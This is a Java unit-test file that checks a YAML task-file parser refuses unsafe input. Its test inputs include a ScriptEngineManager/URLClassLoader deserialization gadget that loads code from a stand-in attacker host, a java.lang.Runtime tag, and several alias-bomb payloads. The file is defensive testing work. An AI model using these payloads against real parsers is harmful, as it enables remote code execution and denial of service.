package dev.evalunit.task;

import org.junit.jupiter.api.Test;

import java.util.stream.Collectors;
import java.util.stream.IntStream;

import static dev.evalunit.task.TaskFiles.error;
import static dev.evalunit.task.TaskFiles.task;
import static org.assertj.core.api.Assertions.assertThat;

/** Task files come from pull requests: only plain YAML data is read, within limits. */
class TaskFileYamlSafetyTest {

    private static final String TAG_REFUSED = " is not allowed: task files hold plain data (text, numbers, booleans,"
            + " lists, mappings) and EvalUnit constructs nothing from tags; remove the tag";

    @Test
    void refusesAnEmptyFile() {
        String empty = "t.yaml:1:1: the file is empty; write a task with at least prompt: and expect:";
        assertThat(error("")).isEqualTo(empty);
        assertThat(error("# a task, some day\n")).isEqualTo(empty);
    }

    @Test
    void refusesATopLevelThatIsNotAMapping() {
        assertThat(error("""
                - prompt: Hi
                  expect: {output: [contains: a]}
                """)).isEqualTo("t.yaml:1:1: the top level of a task file must be a mapping of keys such as prompt:"
                + " and expect:, was a list");
    }

    @Test
    void refusesADuplicateKeyAtTheSecondOne() {
        assertThat(error("""
                prompt: Hi
                expect: {output: [contains: a]}
                prompt: Hello
                """)).isEqualTo("t.yaml:3:1: duplicate key \"prompt\": it is already given at line 1; remove one"
                + " of them");
    }

    @Test
    void refusesAJavaClassTag() {
        assertThat(error("""
                prompt: Hi
                expect: {output: [contains: a]}
                title: !!java.lang.Runtime x
                """)).isEqualTo("t.yaml:3:8: tag !!java.lang.Runtime" + TAG_REFUSED);
    }

    @Test
    void refusesTheScriptEngineManagerGadget() {
        assertThat(error("""
                prompt: Hi
                expect: {output: [contains: a]}
                tools:
                  - name: a
                    result: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
                """)).isEqualTo("t.yaml:5:13: tag !!javax.script.ScriptEngineManager" + TAG_REFUSED);
    }

    @Test
    void refusesALocalTagHintingToQuoteText() {
        assertThat(error("""
                prompt: Hi
                expect:
                  spans:
                    - name: chat
                      count: != 0
                """)).isEqualTo("t.yaml:5:14: tag !=" + TAG_REFUSED + " (to write text that starts with !, quote it:"
                + " \"!= ...\")");
    }

    @Test
    void refusesAnAliasBomb() {
        assertThat(error("""
                prompt: Hi
                expect: {output: [contains: a]}
                tools:
                  - name: lol
                    result:
                      - &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]
                      - &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
                      - &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
                      - &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
                      - &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
                      - &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
                      - &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
                      - &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
                      - &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]
                """)).isEqualTo("t.yaml:12:33: the file uses more than 50 aliases; EvalUnit refuses it as a"
                + " possible alias bomb — expand the aliases");
    }

    @Test
    void refusesAFewAliasesThatStillExpandTooFar() {
        String doublings = IntStream.range(1, 25)
                .mapToObj(i -> "      - &x" + i + " [*x" + (i - 1) + ", *x" + (i - 1) + "]\n")
                .collect(Collectors.joining());

        assertThat(error("""
                prompt: Hi
                expect: {output: [contains: a]}
                tools:
                  - name: lol
                    result:
                      - &x0 ["", ""]
                """ + doublings)).endsWith(": the file expands to more than 1000000 YAML nodes through aliases;"
                + " EvalUnit refuses it as a possible alias bomb — expand the aliases");
    }

    @Test
    void refusesAnAnchoredTextReferencedUntilItExpandsPastTheLimitAtThatAlias() {
        // Aliases of a text are not limited in number (only aliases of lists and mappings are): 100 of an
        // anchor on 100,000 characters is a file of 100 kB that reads to 10 million characters.
        String file = bigTextAliased(100);

        assertThat(file.length()).isLessThan(1_000_000);
        assertThat(error(file)).isEqualTo("t.yaml:105:9: the file expands to more than 10000000 characters of text"
                + " through aliases (limit YamlLimits.MAX_EXPANDED_CHARACTERS; no setting raises it); EvalUnit refuses"
                + " it as a possible alias bomb — write the text out once where it is used, or split the file");
    }

    @Test
    void readsAnAnchoredTextReferencedWithinTheLimit() {
        Task task = task(bigTextAliased(50));

        assertThat(task.tools().get(0).result().toString()).hasSizeGreaterThan(5_000_000);
    }

    /** A tool result that lists an anchored text of 100,000 characters and then {@code aliases} aliases of it. */
    private static String bigTextAliased(int aliases) {
        return """
                prompt: Hi
                expect: {output: [contains: a]}
                tools:
                  - name: a
                    result:
                      - &big\s""" + "x".repeat(100_000) + "\n" + "      - *big\n".repeat(aliases);
    }

    @Test
    void readsAFewAliasesOfPlainData() {
        Task task = task("""
                prompt: Hi
                expect: {output: [contains: a]}
                tools:
                  - name: a
                    parameters: &schema {type: object, properties: {pod: {type: string}}}
                    result: ok
                  - name: b
                    parameters: *schema
                    result: ok
                """);

        assertThat(task.tools().get(1).parameters()).isEqualTo(task.tools().get(0).parameters());
    }

    @Test
    void refusesAnAliasThatContainsItself() {
        assertThat(error("""
                prompt: Hi
                expect: {output: [contains: a]}
                tools:
                  - name: a
                    result: &r [*r]
                """)).isEqualTo("t.yaml:5:13: tools[0].result nests more than 50 levels deep through aliases;"
                + " expand the aliases");
    }

    @Test
    void aFileWithoutAliasesCannotExpandPastTheLimitSoItsTextIsNotCountedAgain() {
        // SafeYaml counts expanded text only when a node is reached twice: a file within MAX_CODE_POINTS holds at
        // most two UTF-16 characters per code point, which must stay under MAX_EXPANDED_CHARACTERS.
        assertThat(2L * dev.evalunit.source.YamlLimits.MAX_CODE_POINTS)
                .isLessThan(dev.evalunit.source.YamlLimits.MAX_EXPANDED_CHARACTERS);
    }

    @Test
    void refusesNestingDeeperThanTheLimit() {
        assertThat(error("prompt: Hi\nexpect: {output: [contains: a]}\ntitle: " + "[".repeat(60) + "]".repeat(60)))
                .isEqualTo("t.yaml:3:58: the file nests lists and mappings more than 50 levels deep; flatten it");
    }

    @Test
    void refusesAnOversizedFile() {
        assertThat(error("prompt: Hi\nexpect: {output: [contains: a]}\ntitle: " + "x".repeat(3_000_000)))
                .isEqualTo("t.yaml:1:1: the file is larger than 3000000 characters; split it into smaller task files");
    }

    @Test
    void refusesMergeKeys() {
        assertThat(error("""
                defaults: &defaults {prompt: Hi}
                <<: *defaults
                expect: {output: [contains: a]}
                """)).isEqualTo("t.yaml:2:1: merge keys (<<) are not supported; write the keys out");
    }

    @Test
    void refusesSeveralDocumentsInOneFile() {
        assertThat(error("""
                prompt: Hi
                expect: {output: [contains: a]}
                ---
                prompt: Again
                expect: {output: [contains: a]}
                """)).isEqualTo("t.yaml:3:1: the file holds more than one YAML document; EvalUnit reads one per file"
                + " — move the document that starts here into a file of its own");
    }

    @Test
    void refusesInvalidYamlAtTheProblem() {
        assertThat(error("""
                prompt: Hi
                  expect: {output: [contains: a]}
                """)).isEqualTo("t.yaml:2:9: invalid YAML: mapping values are not allowed here; fix the YAML syntax"
                + " here (check the indentation, and quote text that contains \": \" or starts with a YAML indicator"
                + " such as !, &, *, [ or {)");
    }
}
